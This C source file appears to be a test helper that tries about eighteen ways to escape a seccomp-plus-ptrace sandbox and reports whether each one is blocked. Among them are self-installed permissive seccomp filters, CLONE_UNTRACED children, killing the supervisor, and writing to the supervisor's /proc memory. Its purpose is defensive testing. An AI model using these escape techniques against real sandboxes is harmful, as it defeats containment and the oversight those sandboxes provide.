/* escape: ways around a seccomp + ptrace supervisor, each tried for real.
 *
 *   escape OP [PORT]
 *
 * Where a PORT is given, the attack ends in a TCP connect to 127.0.0.1:PORT (and a
 * "ping" sent on it), which the test's profile denies and a listener counts. Each
 * step prints "STEP OK <result>" or "STEP ERR <ERRNO>".
 *   io_uring              io_uring_setup, then (if it worked) IORING_OP_CONNECT
 *   notify-filter PORT    a seccomp filter of our own with a user-notification
 *                         listener for connect, a thread answering CONTINUE, connect
 *   trace-filter PORT     a filter of our own returning RET_TRACE with forged data
 *   allow-filter PORT     a filter of our own returning RET_ALLOW for everything
 *   untraced PORT         a child made with clone(CLONE_UNTRACED) connects
 *   clone3                clone3 (its flags could hold CLONE_UNTRACED unseen)
 *   thread PORT           a plain thread (libc's clone3 fallback) connects
 *   ptrace-sibling        PTRACE_ATTACH to a forked sibling
 *   vm-writev             process_vm_writev into a forked sibling
 *   pidfd-getfd           pidfd_getfd of a sibling's descriptor
 *   userfaultfd           userfaultfd()
 *   ip-options PORT       setsockopt(IP_OPTIONS) with loose source routing, connect
 *   rthdr                 setsockopt(IPV6_RTHDR) with a segment routing header
 *   x32                   a syscall through the x32 ABI
 *   nondumpable PORT      prctl(PR_SET_DUMPABLE, 0), then connect
 *   kill-supervisor PORT  SIGKILL to our parent (the supervisor), then connect
 *   outside-mem PID       open /proc/PID/mem of a process outside the sandbox to write
 *   supervisor-mem        open /proc/PPID/mem (the supervisor's) to write
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <netinet/in.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

static void report(const char *step, long result) {
    if (result < 0)
        printf("%s ERR %s\n", step, strerrorname_np(errno) ? strerrorname_np(errno) : "?");
    else
        printf("%s OK %ld\n", step, result);
    fflush(stdout);
}

static int port;

static int connect_and_ping(void) {
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(port)};
    a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    int r = connect(fd, (void *)&a, sizeof a);
    report("connect", r);
    if (r == 0) report("send", send(fd, "ping", 4, 0));
    close(fd);
    return r;
}

static int install(struct sock_filter *code, unsigned short len, unsigned flags) {
    struct sock_fprog prog = {len, code};
    prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
    return (int)syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, flags, &prog);
}

/* --- a user-notification listener answering CONTINUE --------------------------------- */
static int listener = -1;
static void *answer(void *arg) {
    (void)arg;
    struct seccomp_notif req;
    struct seccomp_notif_resp resp;
    for (;;) {
        memset(&req, 0, sizeof req);
        if (ioctl(listener, SECCOMP_IOCTL_NOTIF_RECV, &req) < 0) return NULL;
        memset(&resp, 0, sizeof resp);
        resp.id = req.id;
        resp.flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE;
        ioctl(listener, SECCOMP_IOCTL_NOTIF_SEND, &resp);
    }
}

static int child_connects(void *arg) { (void)arg; return connect_and_ping() == 0 ? 0 : 1; }

static pid_t sibling(void) {
    pid_t pid = fork();
    if (pid == 0) { pause(); _exit(0); }
    return pid;
}

static void *thread_connects(void *arg) { (void)arg; connect_and_ping(); return NULL; }

int main(int argc, char **argv) {
    if (argc < 2) { fprintf(stderr, "usage: escape OP [PORT]\n"); return 98; }
    const char *op = argv[1];
    if (argc > 2) port = atoi(argv[2]);

    if (!strcmp(op, "io_uring")) {
        char params[120] = {0};  /* struct io_uring_params */
        report("io_uring_setup", syscall(425 /* io_uring_setup */, 8, params));
    } else if (!strcmp(op, "notify-filter")) {
        struct sock_filter code[] = {
            BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
            BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_connect, 0, 1),
            BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_USER_NOTIF),
            BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
        };
        listener = install(code, 4, SECCOMP_FILTER_FLAG_NEW_LISTENER);
        report("seccomp", listener);
        if (listener >= 0) {
            pthread_t t;
            pthread_create(&t, NULL, answer, NULL);
        }
        connect_and_ping();
    } else if (!strcmp(op, "trace-filter") || !strcmp(op, "allow-filter")) {
        unsigned action = !strcmp(op, "trace-filter") ? SECCOMP_RET_TRACE | 0xFFFF : SECCOMP_RET_ALLOW;
        struct sock_filter code[] = {BPF_STMT(BPF_RET | BPF_K, action)};
        report("seccomp", install(code, 1, 0));
        connect_and_ping();
    } else if (!strcmp(op, "untraced")) {
        static char stack[65536];
        int pid = clone(child_connects, stack + sizeof stack, CLONE_UNTRACED | SIGCHLD, NULL);
        report("clone", pid);
        if (pid > 0) waitpid(pid, NULL, __WALL);
    } else if (!strcmp(op, "clone3")) {
        uint64_t args[11] = {0x00800000 /* CLONE_UNTRACED */, 0, 0, 0, SIGCHLD};
        long pid = syscall(435 /* clone3 */, args, sizeof args);
        if (pid == 0) _exit(0);
        report("clone3", pid);
    } else if (!strcmp(op, "thread")) {
        pthread_t t;
        report("pthread_create", -pthread_create(&t, NULL, thread_connects, NULL));
        pthread_join(t, NULL);
    } else if (!strcmp(op, "ptrace-sibling")) {
        pid_t pid = sibling();
        report("ptrace", ptrace(PTRACE_ATTACH, pid, 0, 0));
        kill(pid, SIGKILL);
    } else if (!strcmp(op, "vm-writev")) {
        static char buffer[8] = "changed";
        pid_t pid = sibling();
        struct iovec local = {buffer, sizeof buffer}, remote = {buffer, sizeof buffer};
        report("process_vm_writev", syscall(SYS_process_vm_writev, pid, &local, 1, &remote, 1, 0));
        kill(pid, SIGKILL);
    } else if (!strcmp(op, "pidfd-getfd")) {
        pid_t pid = sibling();
        int pidfd = (int)syscall(434 /* pidfd_open */, pid, 0);
        report("pidfd_getfd", syscall(438 /* pidfd_getfd */, pidfd, 0, 0));
        kill(pid, SIGKILL);
    } else if (!strcmp(op, "userfaultfd")) {
        report("userfaultfd", syscall(SYS_userfaultfd, 0));
    } else if (!strcmp(op, "ip-options")) {
        int fd = socket(AF_INET, SOCK_STREAM, 0);
        /* loose source route: NOP, LSRR, length 7, pointer 4, one hop (127.0.0.2) */
        unsigned char options[8] = {1, 131, 7, 4, 127, 0, 0, 2};
        report("setsockopt", setsockopt(fd, IPPROTO_IP, IP_OPTIONS, options, sizeof options));
        close(fd);
        connect_and_ping();
    } else if (!strcmp(op, "rthdr")) {
        int fd = socket(AF_INET6, SOCK_DGRAM, 0);
        /* a segment routing header (type 4) with one segment, ::1 */
        unsigned char srh[24] = {0, 2, 4, 0, 0, 0, 0, 0};
        srh[23] = 1;
        report("setsockopt", setsockopt(fd, IPPROTO_IPV6, IPV6_RTHDR, srh, sizeof srh));
        close(fd);
    } else if (!strcmp(op, "x32")) {
        report("x32-getpid", syscall(0x40000000 | 39));
    } else if (!strcmp(op, "nondumpable")) {
        report("prctl", prctl(PR_SET_DUMPABLE, 0, 0, 0, 0));
        connect_and_ping();
    } else if (!strcmp(op, "kill-supervisor")) {
        report("kill", kill(getppid(), SIGKILL));
        sleep(1);
        connect_and_ping();
    } else if (!strcmp(op, "outside-mem") || !strcmp(op, "supervisor-mem")) {
        char path[64];
        snprintf(path, sizeof path, "/proc/%d/mem", !strcmp(op, "outside-mem") ? port : getppid());
        report("open", open(path, O_RDWR));
    } else {
        fprintf(stderr, "escape: unknown operation %s\n", op);
        return 98;
    }
    return 0;
}
